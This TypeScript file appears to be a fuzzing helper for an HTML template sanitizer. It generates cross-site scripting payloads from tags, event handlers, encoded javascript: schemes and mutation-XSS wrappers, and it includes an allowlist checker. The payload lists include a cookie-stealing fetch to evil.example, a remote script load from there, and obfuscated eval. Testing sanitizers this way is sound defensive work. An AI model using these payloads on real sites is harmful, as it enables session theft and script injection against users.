import { Parser } from 'htmlparser2'

const acts = [
  'alert(1)',
  "fetch('//evil.example/'+document.cookie)",
  'parent[`al`+`ert`](1)',
  'eval(atob("YWxlcnQoMSk="))',
]
const handlers = [
  'onclick',
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbeforetoggle',
  'onscrollend',
  'ONERROR',
  'on\nerror',
  'onerror\f',
  '/onerror',
  'x:onerror',
]
const tags = [
  'p',
  'b',
  'td',
  'div',
  'img',
  'svg',
  'math',
  'a',
  'input',
  'video',
  'details',
  'body',
  'iframe',
  'marquee',
  'xmp',
  'template',
  'custom-element',
  'style',
  'object',
  'embed',
  'form',
  'button',
  'base',
  'link',
  'meta',
  'noscript',
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'javascript&#58;',
  ' javascript:',
]
const carriers = [
  'href',
  'src',
  'xlink:href',
  'action',
  'formaction',
  'srcdoc',
  'data',
  'poster',
  'background',
  'style',
  'data-if',
  'data-array',
  'data-signature',
  'colspan',
]
const wraps: ((inner: string) => string)[] = [
  (x) => x,
  (x) => `<p>${x}</p>`,
  (x) => `<table><tr><td>${x}</td></tr></table>`,
  (x) => `<svg>${x}</svg>`,
  (x) => `<math><mtext>${x}</mtext></math>`,
  (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
  (x) => `<svg><style>${x}</style></svg>`,
  (x) => `<math><mi><table><mglyph><style>${x}</style></mglyph></table></mi></math>`,
  (x) => `<noscript><p title="</noscript>${x}">`,
  (x) => `<xmp><p title="</xmp>${x}">`,
  (x) => `<textarea><p title="</textarea>${x}">`,
  (x) => `<title><p title="</title>${x}">`,
  (x) => `<template>${x}</template>`,
  (x) => `<!--><p>${x}-->`,
  (x) => `<!--${x}--!>${x}`,
  (x) => `<![CDATA[${x}]]>`,
  (x) => `<?xml ${x}?>`,
  (x) => `<p data-if='${x}'>`,
  (x) => `<div data-array="${x}">{{${x}}}</div>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}</style></mglyph></form>`,
  (x) => `<iframe srcdoc="${x}"></iframe>`,
  (x) => `<p>{{constructor}}{{ __proto__ }}\${${x}}</p>`,
  (x) => x.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (x) => x.replaceAll('<', '\uFF1C'),
  (x) => x.replaceAll('<', '<\0'),
  (x) => `<plaintext>${x}`,
  (x) => `<select><option>${x}</option></select>`,
  (x) => `<b><p>${x}</b></p>`,
]

/** Attacks on whoever shows HTML, put together from tags, handlers, schemes, encodings and wrappings. */
export function hostileHtml(count: number): string[] {
  const cores: string[] = []
  for (const act of acts) {
    cores.push(
      `<script>${act}</script>`,
      `<scr<script>ipt>${act}</scr</script>ipt>`,
      `<svg/onload=${act}>`,
      `<script src=//evil.example/x.js>`,
    )
    for (const tag of tags) {
      for (const handler of handlers) cores.push(`<${tag} ${handler}="${act}" src=x autofocus tabindex=1>x</${tag}>`)
      for (const carrier of carriers)
        for (const scheme of schemes) cores.push(`<${tag} ${carrier}="${scheme}${act}">x</${tag}>`)
    }
  }
  return Array.from({ length: count }, (_, at) => {
    const core = cores[(at * 7919) % cores.length] ?? ''
    const wrap = wraps[at % wraps.length]!
    return at % 3 === 0 ? wraps[(at * 31) % wraps.length]!(wrap(core)) : wrap(core)
  })
}

const allowed = new Set('h1 h2 h3 h4 p strong em u br hr ul ol li table thead tbody tr th td div'.split(' '))
const attributes = new Set(
  'data-align data-if data-array data-columns data-signature data-page-break colspan'.split(' '),
)

/** Elements and attributes that should not stand in a kept template. */
export function strangersIn(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(name, given) {
      if (!allowed.has(name)) found.push(`<${name}>`)
      for (const attribute of Object.keys(given)) if (!attributes.has(attribute)) found.push(attribute)
    },
    oncomment: (text) => void found.push(`comment ${text}`),
    onprocessinginstruction: (name) => void found.push(name),
  })
  parser.end(html)
  return found
}
